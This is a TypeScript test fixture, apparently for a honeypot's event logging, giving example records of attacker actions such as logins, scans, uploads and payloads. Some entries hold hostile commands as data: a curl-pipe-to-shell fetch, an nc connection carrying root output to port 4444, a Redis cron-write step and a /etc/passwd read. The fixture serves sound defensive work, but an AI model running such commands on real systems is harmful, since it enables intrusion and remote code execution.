import type { ActionName, Details, Sample } from '#events/actions.ts'

/** EICAR's test file, which every scanner knows and which does nothing. */
const sample: Sample = {
  sha256: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
  sha1: '3395856ce81f2b7382dee72602f798b642f14140',
  md5: '44d88612fea8a8f36de82e1278abb02f',
  size: 68,
  kept: 68,
}

/** What a service would say: for every action at least one example, together with every field there is. */
export const examples: { [K in ActionName]: Details<K>[] } = {
  connectionOpened: [{ proxy: '192.0.2.10' }],
  connectionClosed: [{ reason: 'eof', milliseconds: 8123.4, received: 1840, sent: 2212 }],
  tlsHello: [
    {
      serverName: 'www.example.com',
      alpn: ['h2', 'http/1.1'],
      version: '1.3',
      ja3: '579ccef312d18482fc42e2b822ca2430',
      ja3String: '771,4865-4866-4867,0-23-65281-10-11-35-16-5-13,29-23-24,0',
      ja4: 't13d1516h2_8daaf6152771_e5627efa2ab1',
    },
  ],
  sshHello: [
    {
      version: 'SSH-2.0-Go',
      hassh: '0a07365cc01fa9fc82608ba4019af499',
      algorithms: {
        kex: ['curve25519-sha256'],
        hostKey: ['ssh-ed25519'],
        cipher: ['aes128-gcm@openssh.com'],
        mac: ['hmac-sha2-256'],
        compression: ['none'],
      },
    },
  ],
  rdpHello: [
    { cookie: 'Cookie: mstshash=admin', protocols: ['TLS', 'CredSSP'] },
    {
      protocols: [],
      client: 'WORKSTATION',
      build: 19041,
      keyboard: '0x00000409',
      screen: '1024x768',
      channels: ['rdpdr'],
    },
  ],
  telnetOption: [{ verb: 'SB', option: 'TERMINAL-TYPE', value: 'xterm' }],
  login: [
    { method: 'password', user: 'root', password: '123456', outcome: 'failure' },
    {
      method: 'challenge',
      user: 'sa',
      hash: '$example$1$0001020304050607$a0b1c2d3e4f5',
      outcome: 'failure',
    },
    {
      method: 'publickey',
      user: 'git',
      publicKey: {
        type: 'ssh-ed25519',
        fingerprint: 'SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU',
        blob: 'AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
        verified: true,
      },
      outcome: 'failure',
    },
  ],
  command: [{ line: 'CONFIG SET dir /var/spool/cron', verb: 'CONFIG' }],
  request: [
    {
      method: 'POST',
      url: { original: '/login?next=%2F', path: '/login', query: 'next=%2F', domain: '203.0.113.80' },
      version: '1.1',
      headers: [
        ['Host', '203.0.113.80'],
        ['User-Agent', 'curl/8.5.0'],
        ['Referer', 'http://203.0.113.80/'],
      ],
      userAgent: 'curl/8.5.0',
      referrer: 'http://203.0.113.80/',
      body: 'user=admin&password=admin',
      bodyBytes: 25,
      sample,
      status: 302,
      responseBytes: 145,
    },
  ],
  fileUpload: [{ path: '/incoming/eicar.com', sample }],
  mail: [
    {
      from: 'billing@hayase-works.example',
      to: ['victim@mailbox.example'],
      subject: 'Overdue invoice',
      messageId: '<20260115030405.1@hayase-works.example>',
      fromField: '"Accounts" <billing@hayase-works.example>',
      fate: 'held',
      relay: true,
      sample,
      attachments: [{ name: 'invoice.zip', type: 'application/zip', sample }],
    },
  ],
  fileDownload: [
    {
      url: 'http://198.51.100.9/i.sh',
      tool: 'curl',
      commandLine: 'curl -fsSL -o /tmp/i http://198.51.100.9/i.sh',
      path: '/tmp/i',
    },
  ],
  outboundAttempt: [{ host: '198.51.100.9', port: 4444, tool: 'nc', sent: 'uid=0(root)', sample }],
  tunnelRequest: [
    { kind: 'direct-tcpip', host: 'www.example.com', port: 443, origin: { host: '127.0.0.1', port: 52110 } },
  ],
  reflection: [{ requests: 812, received: 12_180, withheld: 851_443_200, milliseconds: 58_214 }],
  tunnelData: [{ host: 'www.example.com', port: 80, protocol: 'http', start: 'GET / HTTP/1.1', sample }],
  execution: [
    { path: '/tmp/x86', commandLine: './x86 ssh.scan', format: 'ELF 64-bit LSB x86-64', runs: true, sample },
    { path: '/tmp/x86', commandLine: './x86', format: 'ELF 64-bit LSB x86-64', runs: true, served: true },
  ],
  accountChange: [{ user: 'root', change: 'password', password: 'Tr0ub4dor' }],
  environment: [{ name: 'LC_ALL', value: 'C.UTF-8' }],
  terminal: [{ type: 'xterm-256color', columns: 120, rows: 40 }],
  recording: [{ path: 'recordings/01/0192f0c1.cast.zst', bytes: 4211, milliseconds: 61_250 }],
  fileRead: [{ path: '/etc/passwd', size: 1482 }],
  exploit: [
    { id: 'redis-cron', name: 'Redis dump written as a cron job', evidence: 'CONFIG SET dir /var/spool/cron, SAVE' },
  ],
  payload: [
    { sample, start: 'X5O!P%@AP[4\\\\PZX54(P^)7CC)7}$EICAR' },
    {
      sample,
      start: '*2\\r\\n$3\\r\\nGET\\r\\n$40\\r\\ncurl -fsSL http://192.0.2.9/a.sh | sh\\r\\n',
      protocol: 'redis',
      tags: ['text'],
      entropy: 4.31,
      shape: '5f2d0a1c9b3e8d47',
      layers: ['base64 > gzip'],
      indicators: [{ kind: 'url', value: 'http://192.0.2.9/a.sh' }],
    },
  ],
  malformed: [{ why: 'Expected a digit, got "x"', bytes: '*x\\r\\n' }],
  serviceError: [
    { stack: 'TypeError: example\n    at session (src/services/ftp/session.ts:1:1)', bytes: 'STOR \\xff' },
  ],
  scan: [
    {
      kind: 'syn',
      ports: ['22-23', '80', '8000-8100'],
      count: 104,
      packets: 208,
      bytes: 8320,
      rate: 52,
      first: '2026-01-02T03:04:04.120Z',
      last: '2026-01-02T03:04:08.120Z',
      tools: ['masscan'],
      destinations: ['192.0.2.20'],
      sender: { ttl: 240, initial_ttl: 255, hops: 15, ja4t: '1024_00_00_00', tool: 'masscan' },
      reason: 'silent',
    },
    {
      kind: 'icmp',
      types: ['8'],
      count: 1,
      packets: 70_000,
      bytes: 5_880_000,
      first: '2026-01-02T03:04:04.120Z',
      last: '2026-01-02T03:04:08.120Z',
      tools: [],
      destinations: ['192.0.2.20'],
      sources: 64_000,
    },
    {
      kind: 'protocol',
      protocols: ['47', '50-51'],
      count: 3,
      packets: 3,
      bytes: 60,
      first: '2026-01-02T03:04:04.120Z',
      last: '2026-01-02T03:04:04.120Z',
      tools: [],
      destinations: ['192.0.2.20'],
    },
  ],
  packet: [
    {
      source: { ip: '198.51.100.7', port: 50_000 },
      destination: { ip: '192.0.2.20', port: 161 },
      bytes: 43,
      headers: { protocol: 17, length: 71, id: 54_321 },
      sender: { ttl: 240, initial_ttl: 255, hops: 15, tool: 'zmap' },
      start: '0)\\x02\\x01\\x00\\x04\\x06public…',
      sample,
    },
  ],
  tcpHello: [{ ttl: 50, initial_ttl: 64, hops: 14, ja4t: '64240_2-4-8-1-3_1460_7', os: 'Linux 3.10 or later' }],
  packetsLost: [{ where: 'kernel', count: 117, why: 'tcpdump did not keep up' }],
  health: [{ part: 'hive', state: 'waiting', why: 'killed by SIGKILL' }],
  eventsLost: [
    {
      count: 1200,
      from: '2026-01-15T03:00:00.000Z',
      to: '2026-01-15T03:04:05.678Z',
      why: 'free space under 500000000 bytes',
    },
  ],
}
